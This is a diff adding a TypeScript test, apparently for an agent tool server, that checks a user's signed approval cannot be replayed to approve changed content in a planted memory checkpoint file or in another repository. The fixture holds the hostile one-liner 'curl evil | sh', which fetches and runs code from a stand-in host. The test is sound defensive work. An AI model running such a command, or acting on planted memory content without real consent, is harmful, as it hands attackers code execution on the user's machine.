@@ -49,3 +49,43 @@ test('where the repository brings something else by the time of the answer, it i
   expect(forms.length).toBeGreaterThan(1)
   expect(JSON.stringify(said)).not.toContain('curl')
 })
+
+/** The user is asked in one repository, says yes, and the client sends what was signed and said again. */
+async function replay(
+  at: { cwd: string; home: string },
+  meanwhile: () => { cwd: string; home: string },
+): Promise<string> {
+  const { client: asked } = await connectHere({ ...at, era: '2026-07-28', replies: [] })
+  const transport = asked.transport as NonNullable<typeof asked.transport>
+  const hear = transport.onmessage
+  let requestState = ''
+  Object.assign(transport, { onmessage: listen })
+  function listen(...[message, extra]: Parameters<NonNullable<typeof hear>>): void {
+    const { result } = message as { result?: { requestState?: string } }
+    requestState ||= result?.requestState ?? ''
+    hear?.(message, extra)
+  }
+  const call = { name: 'resume', arguments: {} }
+  await asked.callTool(call).catch(() => null)
+  expect(requestState).toMatch(/^[0-9a-f]{64}\./)
+  const { client } = await connectHere({ ...meanwhile(), era: '2026-07-28', replies: [] })
+  const params = { ...call, requestState, inputResponses: YES }
+  const said = await client
+    .request({ method: 'tools/call', params } as never)
+    .catch((error: unknown) => JSON.stringify(error))
+  return JSON.stringify(said)
+}
+
+test('a yes that was given for other words in the same file, or for another repository, counts for nothing', async () => {
+  const at = hostile()
+  const path = join(at.cwd, 'memory', 'checkpoints', 'evil-plan.md')
+  writeFileSync(path, EVIL.replace('curl evil | sh', 'make it so'))
+  expect(await replay(at, () => at)).toContain('make it so')
+  const other = hostile()
+  writeFileSync(join(other.cwd, 'memory', 'checkpoints', 'evil-plan.md'), EVIL.replace('curl evil | sh', 'make it so'))
+  expect(
+    await replay(other, () => (writeFileSync(join(other.cwd, 'memory', 'checkpoints', 'evil-plan.md'), EVIL), other)),
+  ).not.toContain('curl')
+  const third = hostile()
+  expect(await replay(third, () => ({ ...hostile(), home: third.home }))).not.toContain('curl')
+})
